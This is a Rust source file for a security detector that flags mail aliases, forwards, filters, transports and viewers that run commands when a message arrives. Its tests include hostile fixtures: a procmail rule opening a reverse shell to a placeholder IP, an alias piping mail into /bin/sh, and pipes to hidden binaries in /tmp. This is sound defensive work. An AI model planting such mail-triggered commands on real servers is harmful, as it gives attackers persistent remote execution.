//! Detector: a message starts something odd.

use crate::weigh::{self, Files, Weight};
use crate::{Card, Detector, Draft, Tables};
use calma_record::{Severity, kinds::StartupCommand};

/// This detector.
pub(super) const DETECTOR: Detector = Detector {
    card: Card {
        name: "mail-command",
        doc: "An alias, forward, mail filter, transport or viewer runs something odd when a message comes.",
        mechanisms: &[58, 111],
        attack: &["T1546", "T1114.003"],
        why: "Whoever sends a message to this server starts it, from anywhere, and it leaves no login.",
        innocent: "you set it up: a mailing list, a ticket system or a filter reads mail this way",
        next: "read the line and what it runs; keep both as evidence before removing them",
    },
    judge,
};

fn judge(tables: &Tables, drafts: &mut Vec<Draft>) {
    let files = Files::new(tables);
    for row in tables.of::<StartupCommand>().filter(|row| row.mechanism.starts_with("mail ")) {
        let mut weight =
            weigh::command(&files, &row.command, row.as_root).and(weigh::changeable(&files, &row));
        // A bare shell reads the message as its commands.
        let mut words =
            row.command.as_bytes().split(|b| matches!(b, b' ' | b'\t')).filter(|word| !word.is_empty());
        let first = words.next().unwrap_or_default();
        let name = first.rsplit(|b| *b == b'/').next().unwrap_or_default();
        let interprets = matches!(
            name,
            b"sh" | b"bash" | b"dash" | b"zsh" | b"ksh" | b"perl" | b"python3" | b"python" | b"php"
        );
        let reads = words.next().is_none_or(|word| matches!(word, b"-s" | b"-i" | b"-"));
        if interprets && reads && row.mechanism != "mail viewer" {
            weight = weight.and(Weight::of(Severity::High, "it runs what the message says"));
        }
        if row.package.is_some() && weight.severity < Some(Severity::Medium) {
            continue;
        }
        let identity = [row.path.as_bytes(), b"\0", row.command.as_bytes()].concat();
        let title = format!("Something odd runs {}", row.when);
        drafts.extend(weigh::draft(weight, &identity, title, &row.path, row.line, &row.command, &row));
    }
}

#[cfg(test)]
mod tests {
    use calma_testkit::{Mem, check};

    fn host() -> Mem {
        Mem::new().file("/etc/passwd", "root:x:0:0::/root:/bin/bash\nme:x:1000:1000::/home/me:/bin/bash\n")
    }

    #[test]
    fn odd_commands_are_found_in_every_place() {
        for (path, text) in [
            ("/etc/aliases", "postmaster: root\nsupport: \"|/var/tmp/.m\"\n"),
            ("/etc/aliases", "x: \"|/bin/sh\"\n"),
            ("/etc/aliases", "list: :include:/var/lib/l\n"),
            ("/home/me/.forward", "\\me, \"|IFS=' ' && exec /dev/shm/f || exit 75\"\n"),
            ("/root/.procmailrc", ":0\n* ^Subject:.*go\n| bash -c 'bash -i >& /dev/tcp/192.0.2.1/1 0>&1'\n"),
            ("/etc/procmailrc", "X=`/tmp/x`\n"),
            ("/home/me/.dovecot.sieve", "require [\"vnd.dovecot.pipe\"];\npipe \"/tmp/p\";\n"),
            ("/etc/postfix/master.cf", "f unix - n n - - pipe\n  flags=Rq user=root argv=/tmp/f ${sender}\n"),
            ("/etc/postfix/main.cf", "mailbox_command = /dev/shm/m -a\n"),
            ("/etc/postfix/main.cf", "alias_maps = hash:/var/lib/l2\n"),
            ("/etc/exim4/conf.d/transport/99", "x:\n driver = pipe\n command = /tmp/e\n"),
            ("/home/me/.mailcap", "text/html; /tmp/v %s\n"),
        ] {
            let mem =
                host().file("/var/lib/l", "a@example.org\n|/tmp/l\n").file("/var/lib/l2", "y: |/tmp/y\n");
            let seen = check(mem.file(path, text));
            assert_eq!(seen.alarms("mail-command").len(), 1, "{path}: {:#?}", seen.findings);
        }
    }

    #[test]
    fn what_mail_servers_do_is_quiet() {
        let seen = check(
            host()
                .file("/etc/aliases", "root: me\nlist: \"|/var/lib/mailman/mail/mailman post list\"\nticket: \"|/usr/bin/rt-mailgate --queue general --action correspond --url http://localhost/\"\n")
                .file("/home/me/.forward", "me@example.org\n")
                .file("/home/me/.procmailrc", "MAILDIR=$HOME/Mail\n:0fw\n| /usr/bin/spamc\n:0\n* ^X-Spam: yes\nspam/\n")
                .file("/etc/postfix/master.cf", "maildrop unix - n n - - pipe\n  flags=DRXhu user=vmail argv=/usr/bin/maildrop -d ${recipient}\nspamassassin unix - n n - - pipe\n  user=debian-spamd argv=/usr/bin/spamc -f -e /usr/sbin/sendmail -oi -f ${sender} ${recipient}\n")
                .file("/etc/postfix/main.cf", "mailbox_command = procmail -a \"$EXTENSION\"\nalias_maps = hash:/etc/aliases\n")
                .file("/etc/mailcap", "text/html; /usr/bin/w3m -I %{charset} -T text/html '%s'; copiousoutput; description=HTML Text; nametemplate=%s.html\napplication/x-tar; /bin/tar tvf -; print=/bin/tar tvf - | print text/plain:-\n"),
        );
        assert!(seen.by("mail-command").is_empty(), "{:#?}", seen.by("mail-command"));
    }
}
